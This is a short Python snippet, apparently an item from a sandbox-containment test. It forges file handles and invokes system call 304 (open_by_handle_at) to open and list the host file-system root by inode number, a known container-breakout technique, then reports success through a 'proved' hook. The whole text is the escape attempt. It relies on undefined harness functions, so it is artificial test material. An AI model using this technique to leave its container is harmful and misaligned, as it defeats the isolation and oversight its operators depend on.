# holds: secret_kept
# ends: any
# uses: memory_access, library_calls
import os
import struct

# The root of most file systems is inode 2: a handle needs no name and no path.
for number in (2, 128, 256):
    handle = struct.pack("<IiII", 8, 1, number, 0) + bytes(64)
    opened = system_call(304, os.open("/", os.O_RDONLY), address_of(handle), 0)
    if opened >= 0:
        print(os.listdir(opened))
        proved("handle")
return "tried"
